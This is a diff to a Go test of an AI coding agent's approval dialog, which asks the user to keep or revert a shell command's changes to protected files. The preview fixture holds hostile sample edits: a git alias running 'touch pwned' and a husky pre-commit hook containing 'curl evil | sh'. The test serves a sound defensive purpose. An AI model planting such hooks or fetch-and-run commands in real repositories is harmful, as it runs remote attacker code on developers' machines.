@@ -18,7 +18,7 @@ func keepRequest(m *model) (*agent.Call, *agent.ApprovalRequest) {
 	req := agent.NewApprovalRequest("ap_9", *call, tools.KindShell, tools.Preview{
 		Title:   "keep the changes to .git/config (changed)",
 		Command: "cd .gi? && echo x >> config",
-		Diff:    "--- a/.git/config\n+++ b/.git/config\n@@ -1 +1,3 @@\n [core]\n+[alias]\n+\tx = !touch pwned\n",
+		Diff:    "--- a/.git/config\n+++ b/.git/config\n@@ -1 +1,3 @@\n [core]\n+[alias]\n+\tx = !touch pwned\n--- a/.husky/pre-commit\n+++ b/.husky/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n",
 	}, agent.Scope{})
 	req.Always, req.Keep = true, true
 	req.Reason = "This command changed protected files: .git/config (changed). Keep the change (allow) or revert it (deny)?"
@@ -48,7 +48,7 @@ func TestKeepDialog(t *testing.T) {
 			startTurn(m)
 			call, req := keepRequest(m)
 			s := screen(m)
-			for _, want := range []string{"Keep the changes run_shell made to protected files?", "Keep (y)", "Revert (n)", "x = !touch pwned"} {
+			for _, want := range []string{"Keep the changes run_shell made to protected files?", "Keep (y)", "Revert (n)", "x = !touch pwned", ".husky/pre-commit"} {
 				if !strings.Contains(s, want) {
 					t.Errorf("dialog lacks %q:\n%s", want, s)
 				}
